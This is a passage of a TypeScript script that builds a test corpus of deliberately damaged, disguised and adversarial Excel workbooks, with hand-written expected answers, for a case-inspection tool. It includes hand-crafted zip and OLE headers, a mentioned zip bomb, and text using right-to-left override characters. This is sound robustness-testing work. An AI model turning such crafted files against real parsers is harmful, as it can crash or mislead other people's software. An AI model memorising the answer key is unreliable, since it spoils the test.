/**
 * The hostile-workbook corpus (test/fixtures/hostile/): damaged, disguised, half-finished,
 * oversized and adversarial workbooks, each with the answer the command line must give. The
 * files and test/fixtures/hostile/manifest.json are written by this script; the same input always
 * gives the same bytes (fixed dates, ExcelJS + JSZip), so the manifest records each file's SHA-256
 * and the tests check the committed files are what this script makes.
 *
 * The two very large entries (100,000 rows) are not committed: the tests build them into a
 * temporary folder with the same functions (`buildEntry`).
 *
 *   npx tsc -p scripts/tsconfig.make-hostile-corpus.json && node lib/make-hostile-corpus/scripts/make-hostile-corpus.js
 *   (add a folder name to write somewhere else; add --large to write the large entries too)
 *
 * Expected answers are written by hand from the product contract (PRODUCT.md), never recorded
 * from a run: exit code; for exit 0/1 the case count, key statistics per criterion
 * ([relevant, met, unjudged, excluded]), the overall [relevant, met], and every issue as
 * {sheet, cell, code}; for exit 2 a phrase the one-line reason must contain.
 */
import { createHash } from "node:crypto";
import { mkdirSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import * as path from "node:path";
import { deflateRawSync } from "node:zlib";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import {
  analyseWorkbook,
  BUILT_IN_FRAMEWORK,
  buildReportLayouts,
  buildTemplate,
  columnLetters,
  criterionHeader,
  fromA1,
  type CellValue,
  type Criterion,
  type Grid,
  type IssueCode,
  type WorkbookGrids,
} from "../src/core";
import { writeGeneratedSheets } from "../src/xlsx/package-writer";

// ---------------------------------------------------------------------------------------------
// What a corpus entry is.

/** [relevant, met, unjudged, excluded] for one criterion. */
export type Stat = readonly [relevant: number, met: number, unjudged: number, excluded: number];

export interface ExpectedIssue {
  readonly sheet: string;
  readonly cell: string | null;
  readonly code: IssueCode;
}

export interface ExpectedAnswer {
  readonly exit: 0 | 1 | 2;
  /** Exit 2: a phrase the one-line reason must contain. */
  readonly reason?: string;
  readonly cases?: number;
  /** Key statistics by criterion ID. */
  readonly criteria?: Readonly<Record<string, Stat>>;
  /** Overall [relevant, met]. */
  readonly overall?: readonly [number, number];
  readonly errors?: number;
  readonly warnings?: number;
  /** Every issue (compared as a multiset), unless `issueCounts` is given instead. */
  readonly issues?: readonly ExpectedIssue[];
  /** Issues counted by code, for entries with very many. */
  readonly issueCounts?: Readonly<Partial<Record<IssueCode, number>>>;
  /** Phrases that `report` must print on stderr (notices). */
  readonly notices?: readonly string[];
  /** The sheet names of the report's output, in order. */
  readonly outputSheets?: readonly string[];
  /** Judgement cells left out of the counts. */
  readonly excludedCells?: number;
}

/** A cell as the corpus writes it. */
export type SpecValue =
  | string
  | number
  | boolean
  | null
  | Date
  | { readonly error: string }
  | { readonly formula: string; readonly result?: string | number | boolean | { readonly error: string } }
  | { readonly rich: readonly string[] }
  | { readonly link: string; readonly text: string };

export interface SheetSpec {
  readonly name: string;
  /** Where rows[0][0] goes (default A1). */
  readonly at?: string;
  readonly rows: readonly (readonly SpecValue[])[];
  /** The rows are an Excel table: rows[0] is the header (the column names when headerRow is false). */
  readonly table?: { readonly name: string; readonly headerRow?: boolean; readonly totals?: boolean };
  /** Merged ranges; the values of all but their top-left cells are dropped, as Excel does. */
  readonly merges?: readonly string[];
  /** 1-based sheet rows to hide. */
  readonly hiddenRows?: readonly number[];
  /** An AutoFilter over the rows (plain sheets). */
  readonly autoFilter?: boolean;
  readonly state?: "hidden" | "veryHidden";
}

export interface WorkbookSpec {
  readonly sheets: readonly SheetSpec[];
}

export interface CorpusEntry {
  /** File name under test/fixtures/hostile/. */
  readonly file: string;
  /** What it is, in a line. */
  readonly what: string;
  /** Built at test time into a temporary folder, not committed. */
  readonly large?: boolean;
  /** The workbook as data, when it is plain cells (then the engine and the Excel double apply). */
  readonly spec?: WorkbookSpec;
  /** Whether the Office.js double applies (default: when there is a spec). */
  readonly double?: boolean;
  /** Whether the engine on the spec's grids gives the expected answer (default: when there is a spec). */
  readonly engine?: boolean;
  /**
   * False when the bytes depend on the platform's zlib (the zip bomb): the tests then check the
   * committed file against the manifest but do not rebuild it.
   */
  readonly portableBytes?: boolean;
  readonly expected: ExpectedAnswer;
  readonly build: () => Promise<Uint8Array>;
}

// ---------------------------------------------------------------------------------------------
// The baseline inspection: six cases, every criterion, section notes. Hand-counted statistics:
//   1.1 (all)        Yes No Yes Yes No Yes          → relevant 6, met 4
//   1.2 (new PSR)    PSR Yes for C01, C03, C06: Yes  → relevant 3, met 3
//   2.1 (relevant)   Yes N/A No Yes Yes N/A          → relevant 4, met 3
//   3.6 (custody)    C03 Yes, C05 No                 → relevant 2, met 1
//   other 16 criteria Yes wherever they apply; overall relevant 108, met 104.

export const FIXED_DATE = new Date(Date.UTC(2026, 0, 15, 9, 30, 0));
const CRITERIA: readonly Criterion[] = BUILT_IN_FRAMEWORK.criteria;
const NOTE_HEADERS = ["1 Notes", "2 Notes", "3 Notes", "4 Notes", "5 Notes"];
export const HEADER: readonly string[] = ["Case ID", "Case manager", "Sentence", "PSR", ...CRITERIA.map(criterionHeader), ...NOTE_HEADERS];
const SENTENCES = ["Community", "Community", "Custody", "Community", "Custody", "Community"] as const;
const PSRS = ["Yes", "No", "Yes", "No", "No", "Yes"] as const;
const MANAGERS = ["A. Khan", "B. Jones", "C. Smith", "A. Khan", "B. Jones", "C. Smith"];
const PATTERNS: Readonly<Record<string, readonly string[]>> = {
  "1.1": ["Yes", "No", "Yes", "Yes", "No", "Yes"],
  "2.1": ["Yes", "N/A", "No", "Yes", "Yes", "N/A"],
  "3.6": ["N/A", "N/A", "Yes", "N/A", "No", "N/A"],
};
const BASE_STATS: Readonly<Record<string, Stat>> = { "1.1": [6, 4, 0, 0], "1.2": [3, 3, 0, 0], "2.1": [4, 3, 0, 0], "3.6": [2, 1, 0, 0] };
const BASE_OVERALL = [108, 104] as const;

/** The column letter of a header of the baseline layout: a criterion ID, "Case ID", "1 Notes"… */
export function col(name: string, header: readonly string[] = HEADER): string {
  const i = header.findIndex((h) => h === name || h.startsWith(`${name} `));
  if (i < 0) throw new Error(`no column ${name}`);
  return columnLetters(i);
}

/** Column index (zero-based) of a header of the baseline layout. */
function colIndex(name: string, header: readonly string[] = HEADER): number {
  return fromA1(`${col(name, header)}1`).col;
}

/** The judgement a baseline case k (0–5) has for a criterion. */
function baseJudgement(c: Criterion, k: number): string {
  const pattern = PATTERNS[c.id];
  if (pattern) return pattern[k]!;
  if (c.appliesTo === "custody" && SENTENCES[k] !== "Custody") return "N/A";
  if (c.appliesTo === "community" && SENTENCES[k] !== "Community") return "N/A";
  if (c.appliesTo === "new-psr" && PSRS[k] !== "Yes") return "N/A";
  return "Yes";
}

/** Baseline case k (0–5) with a Case ID, as a row of HEADER. */
export function caseRow(k: number, id: SpecValue = `C0${k + 1}`): SpecValue[] {
  return [
    id,
    MANAGERS[k]!,
    SENTENCES[k]!,
    PSRS[k]!,
    ...CRITERIA.map((c) => baseJudgement(c, k)),
    ...NOTE_HEADERS.map((_h, s) => `Case ${k + 1}: evidence for section ${s + 1}.`),
  ];
}

function baseRows(): SpecValue[][] {
  return [0, 1, 2, 3, 4, 5].map((k) => caseRow(k));
}

/** A copy of rows with cells replaced: [row index among the cases (0-based), column name, value]. */
function edit(rows: readonly (readonly SpecValue[])[], edits: readonly (readonly [number, string, SpecValue])[], header: readonly string[] = HEADER): SpecValue[][] {
  const out = rows.map((r) => [...r]);
  for (const [r, name, value] of edits) out[r]![colIndex(name, header)] = value;
  return out;
}

function casesTable(rows: readonly (readonly SpecValue[])[], options: { at?: string; header?: readonly string[]; sheet?: string; totals?: boolean } = {}): SheetSpec {
  return {
    name: options.sheet ?? "Cases",
    ...(options.at ? { at: options.at } : {}),
    rows: [options.header ?? HEADER, ...rows],
    table: { name: "Cases", ...(options.totals ? { totals: true } : {}) },
  };
}

function casesSheet(rows: readonly (readonly SpecValue[])[], header: readonly string[] = HEADER): SheetSpec {
  return { name: "Cases", rows: [header, ...rows] };
}

function criteriaSheet(edits: (rows: SpecValue[][]) => SpecValue[][] = (r) => r): SheetSpec {
  const rows = buildTemplate().criteria.rows.map((r) => r.map((v) => v as SpecValue));
  return { name: "Criteria", rows: edits(rows) };
}

const WARNING_CODES: ReadonlySet<IssueCode> = new Set<IssueCode>([
  "unknown-criterion-column",
  "missing-criterion-column",
  "no-case-rows",
  "non-canonical-value",
  "not-yet-judged",
  "criteria-section-mismatch",
  "criteria-empty",
  "invalid-setting",
  "unknown-setting",
]);

const issue = (cell: string | null, code: IssueCode, sheet = "Cases"): ExpectedIssue => ({ sheet, cell, code });

/** Issues on row 1 (A1) for each criterion without a column. */
function missingCriterionColumns(ids: readonly string[], sheet = "Cases"): ExpectedIssue[] {
  return ids.map(() => issue("A1", "missing-criterion-column", sheet));
}

/** An expected answer for a workbook the tool can use, with error and warning counts from the issues. */
function counted(
  a: {
    cases: number;
    criteria?: Readonly<Record<string, Stat>>;
    overall: readonly [number, number];
    issues: readonly ExpectedIssue[];
  } & Pick<ExpectedAnswer, "notices" | "outputSheets" | "excludedCells">,
): ExpectedAnswer {
  const errors = a.issues.filter((i) => !WARNING_CODES.has(i.code)).length;
  return {
    exit: errors > 0 ? 1 : 0,
    cases: a.cases,
    criteria: { ...BASE_STATS, ...(a.criteria ?? {}) },
    overall: a.overall,
    errors,
    warnings: a.issues.length - errors,
    issues: a.issues,
    ...(a.notices ? { notices: a.notices } : {}),
    ...(a.outputSheets ? { outputSheets: a.outputSheets } : {}),
    ...(a.excludedCells !== undefined ? { excludedCells: a.excludedCells } : {}),
  };
}

const BASE_ANSWER = (issues: readonly ExpectedIssue[] = [], more: Partial<Parameters<typeof counted>[0]> = {}): ExpectedAnswer =>
  counted({ cases: 6, overall: BASE_OVERALL, issues, ...more });

const refused = (reason: string): ExpectedAnswer => ({ exit: 2, reason });

// ---------------------------------------------------------------------------------------------
// Writing workbooks.

function toExcelValue(v: SpecValue): ExcelJS.CellValue {
  if (v === null || typeof v !== "object" || v instanceof Date) return v;
  if ("error" in v) return { error: v.error } as ExcelJS.CellErrorValue;
  if ("formula" in v) {
    const result = v.result === undefined ? undefined : typeof v.result === "object" ? ({ error: v.result.error } as ExcelJS.CellErrorValue) : v.result;
    return (result === undefined ? { formula: v.formula } : { formula: v.formula, result }) as ExcelJS.CellFormulaValue;
  }
  if ("rich" in v) return { richText: v.rich.map((text, i) => (i === 0 ? { text, font: { bold: true } } : { text })) };
  return { text: v.text, hyperlink: v.link };
}

/** The ExcelJS workbook for a spec. */
function workbookOf(spec: WorkbookSpec): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  wb.creator = "make-hostile-corpus";
  wb.lastModifiedBy = "make-hostile-corpus";
  wb.created = FIXED_DATE;
  wb.modified = FIXED_DATE;
  for (const s of spec.sheets) {
    const ws = wb.addWorksheet(s.name, s.state ? { state: s.state } : {});
    const at = fromA1(s.at ?? "A1");
    if (s.table) {
      const [header, ...body] = s.rows;
      const names = (header ?? []).map((h) => String(h));
      const totals = s.table.totals ?? false;
      ws.addTable({
        name: s.table.name,
        ref: s.at ?? "A1",
        headerRow: s.table.headerRow ?? true,
        totalsRow: totals,
        style: { theme: "TableStyleMedium2", showRowStripes: true },
        columns: names.map((name, i) => ({
          name,
          ...(totals && i === 0 ? { totalsRowLabel: "Total" } : {}),
          ...(totals && i === 4 ? { totalsRowFunction: "count" as const } : {}),
        })),
        rows: body.map((r) => names.map((_n, i) => toExcelValue(r[i] ?? null))),
      });
    } else {
      s.rows.forEach((row, r) =>
        row.forEach((v, c) => {
          if (v !== null) ws.getCell(at.row + r + 1, at.col + c + 1).value = toExcelValue(v);
        }),
      );
      if (s.autoFilter && s.rows.length > 0) {
        const width = Math.max(...s.rows.map((r) => r.length));
        ws.autoFilter = `${columnLetters(at.col)}${at.row + 1}:${columnLetters(at.col + width - 1)}${at.row + s.rows.length}`;
      }
    }
    for (const m of s.merges ?? []) ws.mergeCells(m);
    for (const r of s.hiddenRows ?? []) ws.getRow(r).hidden = true;
  }
  return wb;
}

/** The .xlsx bytes of a spec (deterministic). */
export async function xlsxOf(spec: WorkbookSpec): Promise<Uint8Array> {
  return normalisedZip(new Uint8Array((await workbookOf(spec).xlsx.writeBuffer()) as ArrayBuffer), FIXED_DATE);
}

/** ExcelJS's package rewritten with every entry dated `date`, [Content_Types].xml first, then the rest by name. */
async function normalisedZip(raw: Uint8Array, date: Date): Promise<Uint8Array> {
  const rank = (n: string): number => (n === "[Content_Types].xml" ? 0 : n.startsWith("_rels/") ? 1 : 2);
  const zip = await JSZip.loadAsync(raw);
  const out = new JSZip();
  for (const name of Object.keys(zip.files).sort((a, b) => rank(a) - rank(b) || (a < b ? -1 : a > b ? 1 : 0))) {
    const f = zip.files[name]!;
    if (!f.dir) out.file(name, await f.async("uint8array"), { date, createFolders: false });
  }
  return out.generateAsync({ type: "uint8array", compression: "DEFLATE", compressionOptions: { level: 6 }, platform: "DOS" });
}

/** Rewrites a package's parts (same order, fixed dates), applying `change` to the named parts. */
async function repack(bytes: Uint8Array, change: (zip: JSZip) => Promise<void>): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(bytes);
  await change(zip);
  const out = new JSZip();
  for (const name of Object.keys(zip.files)) {
    const f = zip.files[name]!;
    if (f.dir) continue;
    out.file(name, await f.async("uint8array"), { date: FIXED_DATE, createFolders: false });
  }
  return out.generateAsync({ type: "uint8array", compression: "DEFLATE", compressionOptions: { level: 6 }, platform: "DOS" });
}

async function textOf(zip: JSZip, name: string): Promise<string> {
  const f = zip.file(name);
  if (!f) throw new Error(`no part ${name}`);
  return f.async("string");
}

const CRC_TABLE = ((): Uint32Array => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

function crc32(data: Uint8Array): number {
  let c = 0xffffffff;
  for (let i = 0; i < data.length; i++) c = CRC_TABLE[(c ^ data[i]!) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

interface ZipInput {
  readonly name: string;
  readonly data: Uint8Array;
  /** Deflate with zlib (default: stored). */
  readonly deflate?: boolean;
  /** General-purpose flags (bit 0: encrypted). */
  readonly flags?: number;
  /** The CRC-32 to record instead of the data's own (a part altered after it was zipped). */
  readonly crc?: number;
}

/** A zip written by hand: stored or deflated entries, a 1980 timestamp, no extras. */
export function makeZip(entries: readonly ZipInput[]): Uint8Array {
  const chunks: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, "utf8");
    const body = e.deflate ? new Uint8Array(deflateRawSync(e.data, { level: 9 })) : e.data;
    const crc = e.crc ?? crc32(e.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.flags ?? 0, 6);
    local.writeUInt16LE(e.deflate ? 8 : 0, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(33, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(e.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const head = Buffer.alloc(46);
    head.writeUInt32LE(0x02014b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(20, 6);
    head.writeUInt16LE(e.flags ?? 0, 8);
    head.writeUInt16LE(e.deflate ? 8 : 0, 10);
    head.writeUInt16LE(0, 12);
    head.writeUInt16LE(33, 14);
    head.writeUInt32LE(crc, 16);
    head.writeUInt32LE(body.length, 20);
    head.writeUInt32LE(e.data.length, 24);
    head.writeUInt16LE(name.length, 28);
    head.writeUInt32LE(offset, 42);
    chunks.push(local, name, body);
    central.push(head, name);
    offset += local.length + name.length + body.length;
  }
  const cdSize = central.reduce((n, c) => n + c.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cdSize, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...chunks, ...central, end]));
}

/** The parts of a package, in order, as bytes. */
async function partsOf(bytes: Uint8Array): Promise<{ name: string; data: Uint8Array }[]> {
  const zip = await JSZip.loadAsync(bytes);
  const out: { name: string; data: Uint8Array }[] = [];
  for (const name of Object.keys(zip.files)) {
    const f = zip.files[name]!;
    if (!f.dir) out.push({ name, data: await f.async("uint8array") });
  }
  return out;
}

const xmlEscape = (s: string): string => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

/**
 * A minimal .xlsx written as text (shared strings, one plain sheet per entry), fast enough for
 * 100,000 rows. Cells are strings or numbers.
 */
export function rawXlsx(sheets: readonly { name: string; rows: Iterable<readonly (string | number | null)[]> }[]): Uint8Array {
  const strings: string[] = [];
  const index = new Map<string, number>();
  const sst = (t: string): number => {
    let i = index.get(t);
    if (i === undefined) {
      i = strings.length;
      strings.push(t);
      index.set(t, i);
    }
    return i;
  };
  const letters: string[] = [];
  const letter = (c: number): string => (letters[c] ??= columnLetters(c));
  const sheetParts = sheets.map((s) => {
    const parts: string[] = [];
    let r = 0;
    for (const row of s.rows) {
      r++;
      let cells = "";
      row.forEach((v, c) => {
        if (v === null) return;
        cells += typeof v === "number" ? `<c r="${letter(c)}${r}"><v>${v}</v></c>` : `<c r="${letter(c)}${r}" t="s"><v>${sst(v)}</v></c>`;
      });
      parts.push(`<row r="${r}">${cells}</row>`);
    }
    return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${parts.join("")}</sheetData></worksheet>`;
  });
  const enc = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, "utf8"));
  const ct =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
    `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
    sheets.map((_s, i) => `<Override PartName="/xl/worksheets/sheet${i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`).join("") +
    `<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`;
  const rootRels =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
    `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
  const workbook =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>` +
    sheets.map((s, i) => `<sheet name="${xmlEscape(s.name)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join("") +
    `</sheets></workbook>`;
  const wbRels =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
    sheets.map((_s, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`).join("") +
    `<Relationship Id="rId${sheets.length + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`;
  const sstXml =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${strings.length}" uniqueCount="${strings.length}">` +
    strings.map((t) => `<si><t xml:space="preserve">${xmlEscape(t)}</t></si>`).join("") +
    `</sst>`;
  return makeZip([
    { name: "[Content_Types].xml", data: enc(ct), deflate: true },
    { name: "_rels/.rels", data: enc(rootRels), deflate: true },
    { name: "xl/workbook.xml", data: enc(workbook), deflate: true },
    { name: "xl/_rels/workbook.xml.rels", data: enc(wbRels), deflate: true },
    ...sheetParts.map((x, i) => ({ name: `xl/worksheets/sheet${i + 1}.xml`, data: enc(x), deflate: true })),
    { name: "xl/sharedStrings.xml", data: enc(sstXml), deflate: true },
  ]);
}

/** Baseline case rows cycled to `count` cases with IDs C000001…, as plain values. */
function* cycledRows(count: number): Generator<(string | number | null)[]> {
  yield [...HEADER];
  const templates = [0, 1, 2, 3, 4, 5].map((k) => caseRow(k).slice(0, 4 + CRITERIA.length) as string[]);
  for (let i = 0; i < count; i++) {
    const row: (string | number | null)[] = [...templates[i % 6]!];
    row[0] = `C${String(i + 1).padStart(6, "0")}`;
    yield row;
  }
}

/**
 * An OLE compound file header as Excel writes for .xls files, or for a password-protected
 * workbook (which holds "EncryptionInfo" and "EncryptedPackage" streams).
 */
function oleFile(encrypted: boolean): Uint8Array {
  const bytes = new Uint8Array(4096);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  // Minor version, major version 3, byte order FFFE, sector shift 9, mini sector shift 6.
  bytes.set([0x3e, 0x00, 0x03, 0x00, 0xfe, 0xff, 0x09, 0x00, 0x06, 0x00], 24);
  const names = encrypted ? ["Root Entry", "EncryptionInfo", "EncryptedPackage", "\u0006DataSpaces"] : ["Root Entry", "Workbook", "\u0005SummaryInformation"];
  let at = 1024;
  for (const n of names) {
    for (let i = 0; i < n.length; i++) bytes[at + i * 2] = n.charCodeAt(i);
    bytes[at + 64] = (n.length + 1) * 2;
    at += 128;
  }
  return bytes;
}

/** Deterministic pseudo-random bytes (mulberry32). */
export function randomBytes(seed: number, length: number): Uint8Array {
  let a = seed >>> 0;
  const out = new Uint8Array(length);
  for (let i = 0; i < length; i++) {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    out[i] = ((t ^ (t >>> 14)) >>> 0) & 0xff;
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// The engine's view of a spec (what any reader should hand the engine), and the Office.js
// double's seed.

function engineValue(v: SpecValue): CellValue {
  if (v === null || typeof v !== "object") return v;
  if (v instanceof Date) return v.toISOString().slice(0, 10);
  if ("error" in v) return { error: v.error };
  if ("formula" in v) return v.result === undefined ? null : engineValue(v.result as SpecValue);
  if ("rich" in v) return v.rich.join("");
  return v.text;
}

function mergedAway(s: SheetSpec): Set<string> {
  const away = new Set<string>();
  for (const m of s.merges ?? []) {
    const [a, b] = m.split(":");
    const p = fromA1(a!);
    const q = fromA1(b ?? a!);
    for (let r = p.row; r <= q.row; r++) for (let c = p.col; c <= q.col; c++) if (r !== p.row || c !== p.col) away.add(`${r}:${c}`);
  }
  return away;
}

/** A sheet's cells placed from A1 (or a table's rectangle), as the engine reads them. */
function gridOfSheet(s: SheetSpec, cell: (v: SpecValue) => CellValue): Grid {
  const at = fromA1(s.at ?? "A1");
  const away = mergedAway(s);
  const value = (r: number, c: number, v: SpecValue): CellValue => (away.has(`${at.row + r}:${at.col + c}`) ? null : cell(v));
  if (s.table) {
    const width = s.rows[0]?.length ?? 0;
    const rows = s.rows.map((row, r) => Array.from({ length: width }, (_x, c) => value(r, c, row[c] ?? null)));
    return { sheet: s.name, top: at.row, left: at.col, rows, tableName: s.table.name };
  }
  const width = at.col + Math.max(0, ...s.rows.map((r) => r.length));
  const rows: CellValue[][] = [];
  for (let r = 0; r < at.row + s.rows.length; r++) {
    const source = r >= at.row ? s.rows[r - at.row] : undefined;
    const row = new Array<CellValue>(width).fill(null);
    if (source) source.forEach((v, c) => (row[at.col + c] = value(r - at.row, c, v)));
    rows.push(row);
  }
  while (rows.length > 0 && rows[rows.length - 1]!.every((v) => v === null || v === "")) rows.pop();
  return { sheet: s.name, top: 0, left: 0, rows };
}

const fold = (s: string): string => s.trim().toLowerCase();

/**
 * The grids any reader should give the engine for a spec: the table of each name, else the sheet.
 * @example analyseWorkbook(gridsOfSpec(entry.spec!))
 */
export function gridsOfSpec(spec: WorkbookSpec): WorkbookGrids {
  const find = (name: string): Grid | null => {
    const table = spec.sheets.find((s) => s.table && fold(s.table.name) === fold(name));
    if (table) return gridOfSheet(table, engineValue);
    const sheet = spec.sheets.find((s) => fold(s.name) === fold(name));
    if (!sheet) return null;
    // A sheet of that name whose table has another name is read from A1, as a plain sheet.
    const plain: SheetSpec = { name: sheet.name, rows: sheet.rows, ...(sheet.at ? { at: sheet.at } : {}), ...(sheet.merges ? { merges: sheet.merges } : {}) };
    return gridOfSheet(plain, engineValue);
  };
  const cases = find("Cases");
  if (!cases) throw new Error("the spec has no Cases sheet or table");
  return { cases, criteria: find("Criteria"), settings: find("Settings"), interviews: find("Interviews") };
}

/** A value as Office.js `Range.values` gives it (dates as serial numbers), for the double. */
export type DoubleValue = string | number | boolean | null | { readonly error: string } | { readonly formula: string; readonly value?: string | number | boolean | null };

function doubleValue(v: SpecValue): DoubleValue {
  if (v === null || typeof v !== "object") return v;
  if (v instanceof Date) return v.getTime() / 86400000 + 25569;
  if ("error" in v) return { error: v.error };
  if ("formula" in v) {
    const r = v.result;
    // A formula with a cached error shows the error.
    if (r !== undefined && typeof r === "object") return { error: r.error };
    return { formula: v.formula, value: r ?? null };
  }
  if ("rich" in v) return v.rich.join("");
  return v.text;
}

/** The seed of the Office.js double for a spec (same cells, tables, visibility). */
export function doubleSeedOf(spec: WorkbookSpec): {
  sheets: { name: string; at: string; rows: DoubleValue[][]; tables: { name: string; range: string; showTotals: boolean }[]; visibility?: "Hidden" | "VeryHidden" }[];
} {
  return {
    sheets: spec.sheets.map((s) => {
      const at = fromA1(s.at ?? "A1");
      const away = mergedAway(s);
      const rows: DoubleValue[][] = s.rows.map((row, r) => row.map((v, c) => (away.has(`${at.row + r}:${at.col + c}`) ? null : doubleValue(v))));
      const tables: { name: string; range: string; showTotals: boolean }[] = [];
      if (s.table) {
        const width = s.rows[0]?.length ?? 1;
        let height = s.rows.length;
        if (s.table.totals) {
          const totals: DoubleValue[] = new Array<DoubleValue>(width).fill(null);
          totals[0] = "Total";
          rows.push(totals);
          height++;
        }
        tables.push({ name: s.table.name, range: `${columnLetters(at.col)}${at.row + 1}:${columnLetters(at.col + width - 1)}${at.row + height}`, showTotals: s.table.totals ?? false });
      }
      return {
        name: s.name,
        at: `${columnLetters(at.col)}${at.row + 1}`,
        rows,
        tables,
        ...(s.state ? { visibility: s.state === "hidden" ? ("Hidden" as const) : ("VeryHidden" as const) } : {}),
      };
    }),
  };
}

// ---------------------------------------------------------------------------------------------
// Entries.

function specEntry(file: string, what: string, spec: WorkbookSpec, expected: ExpectedAnswer, more: Partial<CorpusEntry> = {}): CorpusEntry {
  return { file, what, spec, expected, build: () => xlsxOf(spec), ...more };
}

function bytesEntry(file: string, what: string, expected: ExpectedAnswer, build: () => Promise<Uint8Array> | Uint8Array, more: Partial<CorpusEntry> = {}): CorpusEntry {
  return { file, what, expected, build: async () => build(), ...more };
}

/** Entries about the package, not the data: the engine and the double add nothing. */
const NOT_DATA = { engine: false, double: false } as const;

const BASE_SPEC: WorkbookSpec = { sheets: [casesTable(baseRows())] };
const baseBytes = (): Promise<Uint8Array> => xlsxOf(BASE_SPEC);

/** The baseline with its generated sheets written by the real writer (fixed date). */
async function reportedBase(): Promise<Uint8Array> {
  const bytes = await baseBytes();
  const analysis = analyseWorkbook(gridsOfSpec(BASE_SPEC));
  const written = await writeGeneratedSheets(bytes, buildReportLayouts(analysis, { generatedAt: FIXED_DATE }));
  return repack(written.bytes, async () => undefined);
}

/** The workbook part's sheet entries and their parts. */
async function sheetParts(zip: JSZip): Promise<{ name: string; part: string }[]> {
  const wb = await textOf(zip, "xl/workbook.xml");
  const rels = await textOf(zip, "xl/_rels/workbook.xml.rels");
  const out: { name: string; part: string }[] = [];
  for (const m of wb.matchAll(/<sheet\b[^>]*\bname="([^"]*)"[^>]*\br:id="([^"]*)"/g)) {
    const target = new RegExp(`Id="${m[2]}"[^>]*Target="([^"]*)"|Target="([^"]*)"[^>]*Id="${m[2]}"`).exec(rels);
    const t = (target?.[1] ?? target?.[2] ?? "").replace(/^\/?xl\//, "").replace(/^\//, "");
    out.push({ name: m[1]!, part: `xl/${t}` });
  }
  return out;
}

async function renameSheet(zip: JSZip, from: string, to: string): Promise<void> {
  const wb = await textOf(zip, "xl/workbook.xml");
  zip.file("xl/workbook.xml", wb.replace(`name="${xmlEscape(from)}"`, `name="${xmlEscape(to)}"`));
  const app = zip.file("docProps/app.xml");
  if (app) zip.file("docProps/app.xml", (await app.async("string")).replace(`<vt:lpstr>${xmlEscape(from)}</vt:lpstr>`, `<vt:lpstr>${xmlEscape(to)}</vt:lpstr>`));
}

const LONG = 32767;
function longText(seed: string, length: number): string {
  let s = "";
  while (s.length < length) s += `${seed} ${s.length} `;
  return s.slice(0, length);
}

/** Hostile notes: right-to-left, combining marks, emoji and control-like characters. */
export const INTERNATIONAL_NOTES: readonly string[] = [
  "التقييم الأولي لاحتمال العودة إلى الإجرام كان جيداً وشاملاً.",
  "ההערכה הראשונית נעשתה היטב, כולל שיחה עם ההורים.",
  "Mixed \u202Eright-to-left override\u202C and \u200Fمرحبا\u200E in one line.",
